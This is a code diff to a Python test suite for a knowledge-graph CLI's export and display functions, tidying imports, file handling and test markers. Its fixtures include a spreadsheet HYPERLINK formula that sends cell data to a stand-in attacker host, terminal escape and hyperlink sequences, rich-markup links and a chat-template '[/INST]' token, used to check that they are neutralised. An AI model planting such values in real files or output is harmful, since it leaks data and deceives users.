@@ -2,7 +2,6 @@
 exports valid whatever characters ids and values hold."""
 
 import csv
-import doctest
 import io
 import json
 
@@ -10,7 +9,6 @@ import networkx as nx
 import pytest
 from typer.testing import CliRunner
 
-import kg.core.safe_text
 from kg.cli import app
 from kg.present.export import export_graph
 from kg.core.graph import add_entity, add_paper, link_paper, new_graph
@@ -22,11 +20,6 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 INST = "Robust [/INST] tuning"
 LINK = "See [link=http://evil.example]this[/link] now"
 ESCAPE = "Red \x1b[31mtitle\x1b[0m \x1b]8;;http://evil.example\x07x\x1b]8;;\x07 \x9b2J"
-
-
-def test_doctests():
-    result = doctest.testmod(kg.core.safe_text)
-    assert result.attempted > 0 and result.failed == 0
 
 
 @pytest.fixture
@@ -58,7 +51,8 @@ def test_csv_output_neutralises_formulas(hostile_store):
 def test_review_csv_export_neutralises_formulas(tmp_path, hostile_store):
     G = open_store(hostile_store).read_graph()
     export_graph(G, "review-csv", tmp_path / "r.csv")
-    rows = list(csv.DictReader(open(tmp_path / "r.csv", newline="", encoding="utf-8")))
+    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
     assert "'" + FORMULA in [r["title"] for r in rows]
     assert {r["year"] for r in rows} == {"2024"}  # numbers are not touched
 
@@ -75,6 +69,7 @@ def test_tables_show_markup_and_escapes_as_text(args, hostile_store):
     assert "\\x1b[31m" in flat
 
 
+@pytest.mark.slow
 def test_json_output_gives_titles_back_exactly(hostile_store):
     out = invoke("cypher", "MATCH (p:Paper) RETURN p.title AS title", "--json", "--store", hostile_store)
     assert "\x9b" not in out  # escaped as \u009b, which JSON reads back
